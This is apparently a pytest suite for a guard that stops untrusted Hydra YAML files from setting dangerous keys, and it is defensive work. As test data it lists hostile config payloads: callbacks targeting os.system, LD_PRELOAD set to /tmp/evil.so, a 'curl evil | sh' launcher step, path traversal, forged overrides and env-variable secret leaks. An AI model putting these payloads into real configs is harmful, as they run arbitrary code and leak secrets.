"""`trainers.app.config_guard` inside Hydra's real composition (in process; the CLI runs that show
nothing executes are in test_config_guard_cli.py): what a composed file may set depends on
where it comes from, and every defaults list Hydra composes is checked."""

from __future__ import annotations

import functools
import textwrap
from pathlib import Path

import pytest
from hydra import compose, initialize_config_dir
from hydra.core.global_hydra import GlobalHydra
from omegaconf import OmegaConf

from trainers.app.config_guard import check_file, guard_compositions
from trainers.app.trust import SWEEP_SETTINGS, ComposedFile, refusals
from trainers.config.trainer_schemas import LOCATION_KEYS
from trainers.exits import UntrustedConfigError

EXIT = 2
#: What the trusted files of a typical composition declare at the top level.
DECLARED = frozenset({"hydra", "task", "optimizer", "trainer", "paths", "logger", "distributed"})


def untrusted(content: dict, package: str = "", path: str = "experiment/copied") -> ComposedFile:
    return ComposedFile("copied.yaml", False, package, content, path)


def trusted(content: dict, package: str = "") -> ComposedFile:
    return ComposedFile("pkg://mypkg/conf.yaml", True, package, content)


def refused_keys(file: ComposedFile, granted: frozenset[str] = frozenset()) -> list[str]:
    return [r.key for r in refusals(file, granted, DECLARED)]


# --------------------------------------------------------------------------------------------
# The rules, file by file
# --------------------------------------------------------------------------------------------

HOSTILE = {
    "callbacks": {"hydra": {"callbacks": {"x": {"_target_": "subprocess.getoutput"}}}},
    "job_logging factory": {"hydra": {"job_logging": {"handlers": {"h": {"()": "os.system"}}}}},
    "hydra_logging": {"hydra": {"hydra_logging": {"root": {"level": "DEBUG"}}}},
    "env_set": {"hydra": {"job": {"env_set": {"LD_PRELOAD": "/tmp/evil.so"}}}},
    "env_copy": {"hydra": {"job": {"env_copy": ["HOME"]}}},
    "forged task overrides": {"hydra": {"overrides": {"task": ["+allowed_targets=[os.]"]}}},
    "forged hydra overrides": {"hydra": {"overrides": {"hydra": ["hydra.callbacks={}"]}}},
    "empty overrides": {"hydra": {"overrides": {"task": []}}},
    "sampler": {"hydra": {"sweeper": {"sampler": {"_target_": "os.system", "command": "id"}}}},
    "sweeper target": {"hydra": {"sweeper": {"_target_": "os.system"}}},
    "custom search space": {"hydra": {"sweeper": {"custom_search_space": "os.system"}}},
    "launcher": {"hydra": {"launcher": {"setup": ["curl evil | sh"]}}},
    "output_subdir": {"hydra": {"output_subdir": "../../etc"}},
    "runtime": {"hydra": {"runtime": {"choices": {"task": "mlp"}}}},
    "help template": {"hydra": {"help": {"template": "${oc.env:SECRET}"}}},
    "whole hydra node": {"hydra": {}},
    "run dir": {"hydra": {"run": {"dir": "/elsewhere"}}},
    "job name": {"hydra": {"job": {"name": "../elsewhere/app"}}},
    "mode": {"hydra": {"mode": "MULTIRUN"}},
    "searchpath": {"hydra": {"searchpath": ["pkg://os"]}},
    "allowed_targets": {"allowed_targets": ["os."]},
    "allowed_targets element": {"allowed_targets": {"0": "os."}},
    "allowed_targets interpolated": {"allowed_targets": "${oc.env:EVIL}"},
    "resolver-made node": {"hydra": {"callbacks": "${oc.create:{x: {_target_: os.system}}}"}},
    # the audit's route: every job of the sweep gets the override, Hydra exports the variable
    "sweep param env_set": {
        "hydra": {"sweeper": {"params": {"+hydra.job.env_set.XSHARD_ALLOWED_TARGETS": "x."}}}
    },
    "sweep param job_logging": {
        "hydra": {"sweeper": {"params": {"+hydra.job_logging.handlers.x.class": "a.B"}}}
    },
    "sweep param hydra group": {"hydra": {"sweeper": {"params": {"hydra/launcher": "x,y"}}}},
    "sweep param package": {"hydra": {"sweeper": {"params": {"+task@hydra.callbacks": "mlp"}}}},
    "sweep param location": {"hydra": {"sweeper": {"params": {"paths.tb_dir": "/a,/b"}}}},
    "sweep param widening": {"hydra": {"sweeper": {"params": {"+allowed_targets": "[os.]"}}}},
    "sweep param secret": {
        "hydra": {"sweeper": {"params": {"trainer.steps": "${oc.env:SECRET},1"}}}
    },
    "sweep param nested": {"hydra": {"sweeper": {"params": {"hydra": {"job": {"name": "x"}}}}}},
    "sweep direction": {"hydra": {"sweeper": {"direction": "${oc.env:SECRET}"}}},
    "mlflow secret": {"logger": {"mlflow": {"experiment": "leak-${oc.env:MY_SECRET_TOKEN}"}}},
    "secret in a list": {"task": {"tags": ["${oc.env:SECRET}"]}},
    "escaped secret": {"task": {"x": "${oc.create:'{a: \\${oc.env:SECRET}}'}"}},
    "undeclared root": {"new_root": {"x": 1}},
    "defaults hydra group": {"defaults": ["/hydra/launcher@_here_"]},
    "defaults hydra package": {"defaults": ["/task@hydra.callbacks"]},
}


@pytest.mark.parametrize("content", HOSTILE.values(), ids=HOSTILE.keys())
def test_a_copied_file_may_not_set_what_hydra_acts_on(content):
    assert refused_keys(untrusted(content))
    with pytest.raises(UntrustedConfigError, match=r"config file copied\.yaml sets "):
        check_file(untrusted(content), declared=DECLARED)


@pytest.mark.parametrize("key", LOCATION_KEYS)
def test_a_copied_file_may_not_choose_where_the_run_writes_or_connects(key):
    """Every key the schemas mark as a location (one place: `LOCATION` metadata)."""
    node: dict = {}
    for part in reversed(key.split(".")):
        node = {part: node or "/elsewhere"}
    assert refused_keys(untrusted(node)) == [key]
    assert refusals(trusted(node), frozenset(), DECLARED) == []


@functools.cache
def hydra_schema_keys() -> tuple[str, ...]:
    """Every key (nodes too) of Hydra's config as Hydra composes it from its own schema
    (``hydra.conf.HydraConf``) and the installed options: the basic, Optuna and submitit
    sweepers and launchers and the logging configs."""
    from hydra import initialize_config_module

    def walk(node, prefix):
        yield prefix
        if isinstance(node, dict):
            for key, value in node.items():
                yield from walk(value, f"{prefix}.{key}")

    found: set[str] = set()
    options = [[], ["hydra/sweeper=optuna", "hydra/launcher=submitit_local"]]
    GlobalHydra.instance().clear()
    with initialize_config_module("xshard.conf", version_base="1.3"):
        for overrides in options:
            cfg = compose("xshard_train", overrides, return_hydra_config=True)
            found |= set(walk(OmegaConf.to_container(cfg.hydra, resolve=False), "hydra"))
    GlobalHydra.instance().clear()
    return tuple(sorted(found - {"hydra"}))


def nested(key: str, value) -> dict:
    node = value
    for part in reversed(key.split(".")):
        node = {part: node}
    return node


ROUTES = {
    "set directly": lambda key: nested(key, "x"),
    "sweep param key": lambda key: nested(SWEEP_PARAMS_AT, {key: "a,b"}),
    "sweep param added": lambda key: nested(SWEEP_PARAMS_AT, {f"+{key}": "a"}),
    "sweep param forced": lambda key: nested(SWEEP_PARAMS_AT, {f"++{key}": "a"}),
    "sweep param deleted": lambda key: nested(SWEEP_PARAMS_AT, {f"~{key}": ""}),
    "sweep param nested value": lambda key: nested(SWEEP_PARAMS_AT, nested(key, "a")),
    "optuna search space": lambda key: nested(SWEEP_PARAMS_AT, {key: "choice(a, b)"}),
    "optuna interval": lambda key: nested(SWEEP_PARAMS_AT, {f"+{key}": "interval(0, 1)"}),
}
SWEEP_PARAMS_AT = "hydra.sweeper.params"


@pytest.mark.parametrize("route", ROUTES)
def test_every_key_of_hydras_schema_is_refused_by_every_route(route):
    """The attack table: each key of Hydra's schema, from a copied file, by each route."""
    keys = hydra_schema_keys()
    assert len(keys) > 100 and {"hydra.job.env_set", "hydra.sweeper.sampler"} <= set(keys)
    allowed = [k for k in keys if route == "set directly" and k in SWEEP_SETTINGS]
    for key in keys:
        if key in allowed or key.startswith(SWEEP_PARAMS_AT):
            continue
        file = untrusted(ROUTES[route](key))
        assert refused_keys(file), (route, key)


def test_a_copied_file_may_set_values_and_a_search_space_over_them():
    content = {
        "hydra": {
            "sweeper": {
                "params": {
                    "optimizer.learning_rate": "0.1,0.01",
                    "+optimizer.b2": "choice(0.95, 0.99)",
                    "task": "mlp,tiny_gpt",
                },
                "direction": "minimize",
                "n_trials": 4,
            },
        },
        "task": {"_target_": "trainers.tasks.mlp.MLPTask", "hidden": [64], "tag": "${seed}"},
        "trainer": {"steps": "${oc.select:trainer.max,100}", "hooks": []},
        "defaults": [{"override /task": "mlp"}, "_self_"],
    }
    assert refused_keys(untrusted(content)) == []


def test_trusted_files_may_set_hydra_keys_but_never_forge_the_command_line():
    assert refused_keys(trusted(HOSTILE["callbacks"])) == []
    assert refused_keys(trusted(HOSTILE["allowed_targets"])) == []
    assert refused_keys(trusted(HOSTILE["empty overrides"])) == []  # Hydra's own schema
    assert refused_keys(trusted(HOSTILE["mlflow secret"])) == []
    assert refused_keys(trusted(HOSTILE["forged task overrides"])) == ["hydra.overrides.task"]


def test_a_copied_file_may_repeat_granted_entries_but_not_widen_them():
    granted = frozenset({"mypkg.", "other."})
    assert refused_keys(untrusted({"allowed_targets": ["mypkg."]}), granted) == []
    widened = untrusted({"allowed_targets": ["mypkg.", "os."]})
    assert refused_keys(widened, granted) == ["allowed_targets to 'os.'"]
    with pytest.raises(UntrustedConfigError, match=r"sets allowed_targets to 'os\.', which "):
        check_file(widened, granted)
    elsewhere = untrusted({"allowed_targets": ["${task.pkg}"]})  # not readable in the file
    assert refused_keys(elsewhere, granted) == ["allowed_targets to an entry read elsewhere"]


def test_the_error_names_the_file_the_key_and_what_is_allowed():
    with pytest.raises(UntrustedConfigError) as caught:
        check_file(untrusted(HOSTILE["env_set"]))
    message = str(caught.value)
    assert "copied.yaml sets hydra.job.env_set.LD_PRELOAD" in message
    assert "hydra.sweeper.params" in message  # what such a file may set instead
    with pytest.raises(UntrustedConfigError, match="real command line"):
        check_file(untrusted(HOSTILE["forged task overrides"]))
    with pytest.raises(UntrustedConfigError, match="resolver 'oc.env', which reads outside"):
        check_file(untrusted(HOSTILE["mlflow secret"]))


# --------------------------------------------------------------------------------------------
# Real Hydra compositions under the guard
# --------------------------------------------------------------------------------------------


@pytest.fixture
def conf(tmp_path) -> Path:
    """A primary config that sets Hydra keys itself (trusted), and a copied group of options."""
    (tmp_path / "main.yaml").write_text(
        textwrap.dedent("""\
        defaults:
          - _self_
          - exp: plain
        hydra:
          job:
            env_set: {FROM_PRIMARY: "1"}
        allowed_targets: [mypkg.]
        lr: 0.1
        """)
    )
    (tmp_path / "exp").mkdir()
    (tmp_path / "exp" / "plain.yaml").write_text("# @package _global_\nlr: 0.2\n")
    (tmp_path / "exp" / "outputs.yaml").write_text(
        "# @package _global_\nhydra: {run: {dir: runs/x}}\nlr: 0.3\n"
    )
    (tmp_path / "exp" / "sweep.yaml").write_text(
        "# @package _global_\nhydra: {sweeper: {params: {lr: '0.3,0.4'}}}\nlr: 0.3\n"
    )
    (tmp_path / "exp" / "env_sweep.yaml").write_text(
        "# @package _global_\nhydra: {sweeper: {params: "
        "{+hydra.job.env_set.XSHARD_ALLOWED_TARGETS: 'os.'}}}\n"
    )
    (tmp_path / "exp" / "launcher.yaml").write_text(
        "# @package _global_\ndefaults:\n  - override /hydra/launcher: basic\n"
    )
    (tmp_path / "exp" / "forge.yaml").write_text(
        "# @package _global_\nhydra: {overrides: {task: ['+allowed_targets=[os.]']}}\n"
    )
    (tmp_path / "exp" / "header.yaml").write_text(
        "# @package hydra.callbacks\nx: {_target_: a.b}\n"
    )
    (tmp_path / "exp" / "pulls.yaml").write_text(
        "# @package _global_\ndefaults:\n  - /exp/header\n"
    )
    (tmp_path / "exp" / "repeats.yaml").write_text(
        "# @package _global_\nallowed_targets: [mypkg.]\n"
    )
    (tmp_path / "exp" / "widens.yaml").write_text("# @package _global_\nallowed_targets: [os.]\n")
    (tmp_path / "hydra" / "job_logging").mkdir(parents=True)
    (tmp_path / "hydra" / "job_logging" / "evil.yaml").write_text(
        "handlers: {h: {'()': os.system}}\n"
    )
    yield tmp_path
    GlobalHydra.instance().clear()


def composed(conf: Path, *overrides: str):
    GlobalHydra.instance().clear()
    with guard_compositions(EXIT), initialize_config_dir(str(conf), version_base="1.3"):
        return compose("main", list(overrides), return_hydra_config=True)


def test_trusted_primary_and_harmless_options_compose(conf):
    assert composed(conf).lr == 0.2
    assert list(composed(conf, "exp=repeats").allowed_targets) == ["mypkg."]
    cfg = composed(conf, "exp=sweep")
    assert (cfg.lr, cfg.hydra.sweeper.params.lr, cfg.hydra.job.env_set.FROM_PRIMARY) == (
        0.3,
        "0.3,0.4",
        "1",
    )


@pytest.mark.parametrize(
    ("override", "file", "key"),
    [
        ("exp=forge", "exp/forge.yaml", "hydra.overrides.task"),
        ("exp=outputs", "exp/outputs.yaml", "hydra.run.dir"),
        ("exp=env_sweep", "exp/env_sweep.yaml", "hydra.sweeper.params.+hydra.job.env_set"),
        ("exp=launcher", "exp/launcher.yaml", "defaults: /hydra/launcher"),
        ("exp=widens", "exp/widens.yaml", "allowed_targets to 'os.'"),
        ("exp=header", "exp/header.yaml", "hydra.callbacks.x._target_"),
        ("exp=pulls", "exp/header.yaml", "hydra.callbacks.x._target_"),
        ("hydra/job_logging=evil", "hydra/job_logging/evil.yaml", "hydra.job_logging.handlers"),
    ],
)
def test_each_composition_refuses_a_hostile_file(conf, capsys, override, file, key):
    with pytest.raises(SystemExit) as exited:
        composed(conf, override)
    assert exited.value.code == EXIT
    line = capsys.readouterr().err.strip()
    assert line.startswith(f"xshard: error: config file {conf / file} sets {key}"), line
    assert "\n" not in line


def test_the_guard_is_lifted_on_exit(conf):
    from hydra._internal.config_loader_impl import ConfigLoaderImpl

    before = ConfigLoaderImpl._compose_config_from_defaults_list
    with pytest.raises(SystemExit):
        composed(conf, "exp=forge")
    assert ConfigLoaderImpl._compose_config_from_defaults_list is before
    GlobalHydra.instance().clear()
    with initialize_config_dir(str(conf), version_base="1.3"):  # unguarded: Hydra composes it
        assert compose("main", ["exp=forge"], return_hydra_config=True).lr == 0.1
